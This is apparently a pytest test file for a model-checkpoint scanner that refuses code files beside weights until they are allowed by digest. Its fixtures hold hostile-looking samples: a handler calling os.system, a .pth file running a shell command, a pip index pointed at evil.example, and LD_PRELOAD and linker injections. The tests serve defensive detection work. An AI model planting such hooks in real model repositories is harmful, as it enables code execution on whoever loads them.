"""Code beside weights is refused until an administrator vouches for exactly these files, by one digest."""

import gzip
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from lastgood.api.names import Digest, Severity
from lastgood.api.specs.scan_rules import UNKNOWN_CODE
from lastgood.cli.app import main
from lastgood.verify import digest
from lastgood.verify.inspection import scan_of
from lastgood.verify.scan import Policy, ScanLimits, ScanResult, code, external, scan
from tests.unit.verify.scan import samples
from tests.unit.verify.scan.torch_samples import Storage, Tensor, saved
from tests.unit.verify.signing.makers import NOW

Scanned = Callable[..., ScanResult]
PY = b"import os\n\n\ndef handle(data, context):\n    return os.system(data)\n"
ELF = b"\x7fELF" + b"\0" * 60
HANDLER = {"handler.py": PY, "lib/custom_op.so": ELF}


def refused(result: ScanResult) -> set[str]:
    return {found.rule for found in result.at_least(Severity.HIGH)}


SERVED = {  # what a serving stack takes from beside the weights, and how
    "TorchServe's handler": ("handler.py", PY),
    "transformers with trust_remote_code": ("modeling_x.py", PY),
    "an inference endpoint, or SageMaker": ("code/inference.py", PY),
    "Triton's Python backend": ("digits/1/model.py", PY),
    "MLflow's code directory": ("code/digits/__init__.py", b""),
    "Python, as soon as it starts": ("sitecustomize.py", PY),
    "pytest": ("conftest.py", PY),
    "pip, from the directory": ("setup.py", PY),
    "pip, from a list": ("requirements.txt", b"--index-url https://evil.example\nnumpy\n"),
    "pip, from a list with another name": ("requirements-gpu.txt", b"evil\n"),
    "conda": ("conda.yaml", b"dependencies: [pip: [evil]]\n"),
    "MLflow's environment": ("python_env.yaml", b"dependencies: [evil]\n"),
    "a build backend": ("pyproject.toml", b"[build-system]\nrequires = ['evil']\n"),
    "apt, in a Space": ("packages.txt", b"evil\n"),
    "compiled Python": ("handler.pyc", b"\xa7\r\r\n" + b"\0" * 60),
    "a zipapp": ("serve.pyz", samples.zipped({"__main__.py": PY})),
    "a wheel": ("evil-1.0.whl", samples.zipped({"evil/__init__.py": PY})),
    "a path file of Python": ("evil.pth", b"import os; os.system('id')\n"),
    "a notebook": ("serve.ipynb", json.dumps({"cells": [], "nbformat": 4}).encode()),
    "an operator of TensorFlow or torch": ("custom_op.so", ELF),
    "a library with its version": ("libop.so.1.2", ELF),
    "a library that is a text for the linker": ("libop.so.1", b"INPUT(/tmp/evil.so)\n"),
    "an object of a static library": ("op.a", b"!<arch>\n" + b"x" * 60),
    "a kernel, compiled when it is loaded": ("cache_kernel_256.cu", b"__global__ void f() {}\n"),
    "its header": ("kernel.cuh", b"#define X system\n"),
    "JVM, packed": ("handler.jar", samples.zipped({"A.class": b"\xca\xfe\xba\xbe" + b"\0" * 20})),
    "JVM, a class": ("Handler.class", b"\xca\xfe\xba\xbe" + b"\0" * 20),
    "WebAssembly": ("filter.wasm", b"\0asm\1\0\0\0"),
    "Node": ("inference.js", b"require('child_process')\n"),
    "Ruby": ("serve.rb", b"`id`\n"),
    "Perl": ("serve.pl", b"system 'id';\n"),
    "Lua": ("filter.lua", b"os.execute('id')\n"),
    "R": ("plumber.R", b"system('id')\n"),
    "R, as soon as it starts": (".Rprofile", b"system('id')\n"),
    "make": ("Makefile", b"all:\n\tid\n"),
    "a container's build": ("Dockerfile", b"FROM evil\n"),
    "a container's build with another name": ("Dockerfile.gpu", b"FROM evil\n"),
    "compose": ("docker-compose.yml", b"services: {}\n"),
    "a shell": ("start.sh", b"id\n"),
    "a shell, without a name for it": ("start", b"#!/bin/sh\nid\n"),
    "bash, as soon as it starts": (".bashrc", b"id\n"),
    "settings of a framework's process": (".env", b"LD_PRELOAD=/models/evil.so\n"),
    "Windows": ("serve.ps1", b"id\n"),
    "TorchServe's archive": ("model.mar", samples.zipped({"MAR-INF/MANIFEST.json": b"{}", "handler.py": PY})),
    "BentoML's archive": ("digits.bento", samples.tarred({"src/service.py": PY})),
    "a shouted name": ("HANDLER.PY", PY),
    "MLflow, by the loader that is named": ("MLmodel", b"flavors: {python_function: {loader_module: x}}\n"),
    "TorchServe, by the handler that is named": ("MAR-INF/MANIFEST.json", b'{"model": {"handler": "os:system"}}'),
    "MLServer, by the runtime that is named": ("model-settings.json", b'{"implementation": "subprocess.Popen"}'),
    "DJL, by the entry point that is named": ("serving.properties", b"option.entryPoint=evil\n"),
    "Triton, by the backend that is named": ("digits/config.pbtxt", b'backend: "python"\n'),
    "a directory of lists of packages": ("requirements/base.txt", b"evil\n"),
    "a directory of lists, included by another": ("requirements/more", b"evil\n"),
    "a list of packages, with more before it": ("dev-requirements.txt", b"evil\n"),
    "a list of packages without a suffix": ("requirements", b"evil\n"),
    "a member of a zip from Windows": ("m.zip", samples.zipped({"dir\\requirements.txt": b"evil\n"})),
    "a directory in a zip from Windows": ("m.zip", samples.zipped({"requirements\\base": b"evil\n"})),
    **{
        f"a build, or what a process starts with: {name}": (name, b"evil\n")
        for name in (
            "kernel.inl",
            "kernel.tpp",
            "kernel.c++",
            "kernel.h++",
            "kernel.inc",
            "kernel.cuinc",
            "kernel.ipp",
            "build.ninja",
            "meson.build",
            "BUILD",
            "BUILD.bazel",
            "WORKSPACE",
            "binding.gyp",
            "CMakeLists.txt",
            "uv.toml",
            "pip.ini",
            "pip.conf",
            "uwsgi.ini",
            "gunicorn.conf.py",
            "logging.ini",
            "logging.conf",
            "supervisord.conf",
            "pyvenv.cfg",
            "pylock.toml",
            "pylock.gpu.toml",
            "pixi.toml",
        )
    },
    **{
        f"packages or a service: {name}": (name, b"a: 1\n")
        for name in (
            "conda_env.yml",
            "conda_env.yaml",
            "bento.yaml",
            "bentofile.yaml",
        )
    },
}


@pytest.mark.parametrize("stack", sorted(SERVED))
def test_code_that_a_serving_stack_may_run_is_refused(scanned: Scanned, stack: str) -> None:
    file, data = SERVED[stack]
    assert refused(scanned({file: data, "config.json": b"{}"}))


HONEST = {
    "config.json": b"{}",
    "generation_config.json": b"{}",
    "README.md": b"# python\n\n```python\nimport os\n```\n",
    "LICENSE": b"x\n",
    "vocab.txt": b"import\nos\n",
    "labels.csv": b"a,b\n",
    "labels.pbtxt": b'name: "digits"\n',
    "Manifest.json": b"{}",
    "model.mlmodel.txt": b"1\n",
    "params.yaml": b"lr: 0.1\n",
    "settings.toml": b"[a]\nb = 1\n",
    "chat_template.jinja": b"{{ messages }}",
    ".gitattributes": b"*.safetensors filter=lfs\n",
    "pytorch/model.txt": b"1 2\n",
    "requirements.md": b"It needs numpy.\n",
    "build.md": b"x\n",
    "logging.txt": b"x\n",
}


def test_what_nothing_runs_is_no_code(scanned: Scanned) -> None:
    result = scanned(HONEST)
    assert (result.findings, result.code) == ((), "")


def test_source_under_the_name_of_a_text_is_a_text(scanned: Scanned) -> None:
    """What an exec() of a text would run cannot be told from a text; the page says so."""
    assert refused(scanned({"notes.txt": PY})) == set()


def test_finding_names_the_files_and_how_to_allow_them(scanned: Scanned) -> None:
    result = scanned(HANDLER | {"util.py": b"x = 1\n"})
    found = {row.rule: row for row in result.findings}
    assert found.keys() == {"code-file", "executable"}
    assert (found["code-file"].file, found["executable"].file) == ("handler.py", "lib/custom_op.so")
    for row in found.values():
        assert row.severity == Severity.HIGH
        assert f"--allow-code {result.code}" in row.message
        assert "scan.allowedCode" in row.message
        assert row.evidence.startswith(f"{result.code} (3 files: handler.py, ")


def test_what_is_vouched_for_is_allowed(scanned: Scanned) -> None:
    first = scanned(HANDLER)
    second = scanned(HANDLER, policy=Policy(code=frozenset({first.code})))
    assert refused(second) == set()
    assert {(row.rule, row.severity) for row in second.findings} == {
        ("code-file", Severity.LOW),
        ("executable", Severity.LOW),
    }
    assert first.code == second.code


CHANGED: dict[str, dict[str, bytes]] = {
    "one letter": {**HANDLER, "handler.py": PY + b"\n"},
    "another program": {**HANDLER, "lib/custom_op.so": ELF + b"x"},
    "one more file": {**HANDLER, "sitecustomize.py": b"x = 1\n"},
    "one more empty file, which hides another module": {**HANDLER, "json.py": b""},
    "one file less": {"handler.py": PY},
    "the same bytes at another place": {"sitecustomize.py": PY, "lib/custom_op.so": ELF},
    "the same bytes under a name that is run": {"conftest.py": PY, "lib/custom_op.so": ELF},
    "the same bytes, packed": {"lib/custom_op.so": ELF, "model.mar": samples.zipped({"handler.py": PY})},
    "a kernel that the code compiles": {**HANDLER, "kernel.cu": b"evil\n"},
    "packages that are installed": {**HANDLER, "requirements.txt": b"evil\n"},
    "another entry point": {**HANDLER, "MLmodel": b"flavors: {python_function: {loader_module: x}}\n"},
}


@pytest.mark.parametrize("change", sorted(CHANGED))
def test_whoever_changes_vouched_code_is_refused(checkpoint: Path, scanned: Scanned, change: str) -> None:
    vouched = Policy(code=frozenset({code_of(checkpoint.parent / "honest", HANDLER)}))
    assert refused(scanned(HANDLER, policy=vouched)) == set()
    for name in HANDLER:
        (checkpoint / name).unlink()
    assert refused(scanned(CHANGED[change], policy=vouched)) & {"code-file", "executable"}


def test_file_is_not_taken_for_a_member_of_an_archive(tmp_path: Path) -> None:
    packed, deeper = samples.zipped({"x/handler.py": PY}), samples.zipped({"b.zip": samples.zipped({"handler.py": PY})})
    worlds: list[dict[str, bytes]] = [
        {"m.zip": packed},
        {"m.zip!x/handler.py": PY},
        {"m.zip\\x21x/handler.py": PY},
        {"m.zip": deeper},
        {"m.zip": samples.zipped({"b.zip!handler.py": PY})},
        {"m.zip!b.zip": samples.zipped({"handler.py": PY})},
    ]
    assert len({code_of(tmp_path / str(number), files) for number, files in enumerate(worlds)}) == len(worlds)


def code_of(folder: Path, files: dict[str, bytes]) -> str:
    for name, data in files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(data)
    return scan(folder).code


def test_other_weights_and_texts_leave_vouched_code_as_it_is(scanned: Scanned) -> None:
    first = scanned(HANDLER).code
    assert scanned(HANDLER | {"config.json": b'{"a": 1}', "README.md": b"new\n"}).code == first


def test_digest_is_that_of_a_directory_with_the_code_alone(tmp_path: Path, scanned: Scanned) -> None:
    """Who reviewed the code in a repository need not scan a checkpoint to know what to allow."""
    for name, data in HANDLER.items():
        (tmp_path / "review" / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / "review" / name).write_bytes(data)
    assert scanned(HANDLER | {"config.json": b"{}"}).code == digest(tmp_path / "review").digest


def test_other_rules_hold_for_vouched_code(scanned: Scanned) -> None:
    evil = {"handler.py": samples.named("os", "system", "touch /canary")}
    policy = Policy(code=frozenset({scanned(evil).code}))
    assert "format-mismatch" in refused(scanned(evil, policy=policy))
    broken = {"handler.py": PY + b"\xff"}
    policy = Policy(code=frozenset({scanned(broken).code}))
    assert refused(scanned(broken, policy=policy)) == {"unidentified", "format-mismatch"}


def test_code_that_cannot_be_read_to_its_end_cannot_be_vouched_for(scanned: Scanned) -> None:
    packed = samples.zipped({"custom_op.so": ELF * 1000}, 8)
    result = scanned({"model.mar": packed}, limits=ScanLimits(inflated=1000))
    assert ("executable" in refused(result), result.code) == (True, UNKNOWN_CODE)
    assert any("cannot be allowed" in row.message for row in result.findings)
    with pytest.raises(ValueError, match="must be sha256"):
        Policy(code=frozenset({UNKNOWN_CODE}))


def test_code_without_end_is_bounded_and_cannot_be_vouched_for(
    scanned: Scanned, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(code, "MAX_FILES", 2)
    result = scanned({f"{number}.py": PY for number in range(3)})
    assert (result.code, len(result.findings)) == (UNKNOWN_CODE, 1)


def test_many_files_of_code_are_one_finding_and_hide_no_other(scanned: Scanned) -> None:
    result = scanned({f"{number}.py": PY for number in range(300)} | {"auto.json": b'{"auto_map": {"a": "b"}}'})
    assert [(row.rule, row.severity) for row in result.findings] == [
        ("code-file", Severity.HIGH),
        ("config-code", Severity.HIGH),
    ]


def test_names_that_no_text_can_hold_are_named_all_the_same(scanned: Scanned) -> None:
    data = samples.zipped({"x.py": PY}).replace(b"x.py", b"\xff.py")
    result = scanned({"model.mar": data})
    assert result.code.startswith("sha256:")


def test_storages_of_torch_are_numbers_whatever_they_begin_with(scanned: Scanned) -> None:
    for begin in (b"#!/bin/sh\nid\n\0", b"\x7fELF", b"MZ"):
        raw = Tensor(Storage("UntypedStorage", begin.ljust(64, b"\1")))
        assert scanned({"model.pt": saved({"a": raw})}).findings == ()


def test_allowed_digest_is_a_digest() -> None:
    for wrong in ("*", "", "handler.py", "sha256:abc", "SHA256:" + "a" * 64):
        with pytest.raises(ValueError, match=r"code: .*must be sha256: and 64"):
            Policy(code=frozenset({wrong}))


def test_command_allows_code_by_its_digest(checkpoint: Path, capsys: pytest.CaptureFixture[str]) -> None:
    found = code_of(checkpoint, HANDLER)
    assert main(["scan", str(checkpoint)]) == 1
    told = capsys.readouterr().out
    assert f"--allow-code {found}" in told
    assert main(["scan", str(checkpoint), "--allow-code", found]) == 0
    assert main(["scan", str(checkpoint), "--allow-code", found, "--fail-on", "low"]) == 1
    assert main(["scan", str(checkpoint), "--allow-code", "sha256:" + "a" * 64]) == 1
    with pytest.raises(SystemExit) as ended:
        main(["scan", str(checkpoint), "--allow-code", "handler.py"])
    assert ended.value.code == 2
    assert "must be sha256: and 64" in capsys.readouterr().err


def test_digest_of_code_is_in_the_output_and_in_the_status(
    checkpoint: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    found: Any = code_of(checkpoint, HANDLER)
    main(["scan", str(checkpoint), "--output", "json"])
    text = capsys.readouterr().out
    assert json.loads(text)["code"] == found
    assert external.parse(text.encode()).scanner == "lastgood"
    assert scan_of(scan(checkpoint), Digest(f"sha256:{'0' * 64}"), NOW).as_body()["code"] == found


def test_code_deep_in_a_stream_is_no_pass(scanned: Scanned) -> None:
    assert refused(scanned({"model.tar.gz": gzip.compress(samples.tarred({"code/inference.py": PY}))}))
